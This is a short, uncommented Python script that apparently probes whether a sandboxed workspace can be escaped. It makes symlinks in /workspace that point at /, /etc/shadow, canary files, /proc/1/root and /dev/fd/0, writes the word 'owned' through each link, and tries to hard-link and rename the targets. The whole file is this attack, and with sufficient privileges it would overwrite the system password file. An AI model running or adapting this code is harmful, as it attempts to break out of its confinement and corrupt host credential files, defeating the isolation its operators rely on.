import os
for i, target in enumerate(("/", "/etc/shadow", "/run/canary", "/var/canary", "/proc/1/root", "/proc/self/root/run/canary", "/dev/fd/0")):
    link = f"/workspace/l{i}"
    try:
        os.symlink(target, link)
        open(link, "w").write("owned")
    except OSError: pass
    for act in (os.link, os.rename):
        try: act(target, link + act.__name__)
        except OSError: pass
